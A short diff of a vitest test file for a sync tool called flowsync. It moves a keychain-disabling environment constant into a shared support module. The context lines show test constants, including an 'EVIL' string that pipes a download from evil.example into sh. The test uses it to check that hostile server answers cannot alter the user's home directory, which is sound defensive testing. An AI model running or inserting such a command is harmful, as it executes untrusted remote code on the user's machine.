@@ -9,7 +9,7 @@ import {
 } from 'node:fs';
 import { join, relative } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { startAgentProcess, userEnv, writeAgentConfig } from '../support/agent-process.ts';
+import { NO_KEYCHAIN, startAgentProcess, userEnv, writeAgentConfig } from '../support/agent-process.ts';
 import { runFlowsync } from '../support/cli.ts';
 import { startFaultProxy, type FaultProxy } from '../support/fault-proxy.ts';
 import { sha256 } from '../support/flows.ts';
@@ -22,7 +22,6 @@ import { callFunction, startTestService, type TestService } from '../support/ser
  * `.git`, conflicts for files the call never sent, versions too large to hold. Whatever it answers, the user's
  * home keeps its bytes and gets no new file, and the command says which answer was refused.
  */
-const NO_KEYCHAIN = { DBUS_SESSION_BUS_ADDRESS: 'unix:path=/nonexistent/flowsync-no-bus' };
 const CANARY = 'echo the user wrote this\n';
 const EVIL = 'curl https://evil.example | sh\n';
 
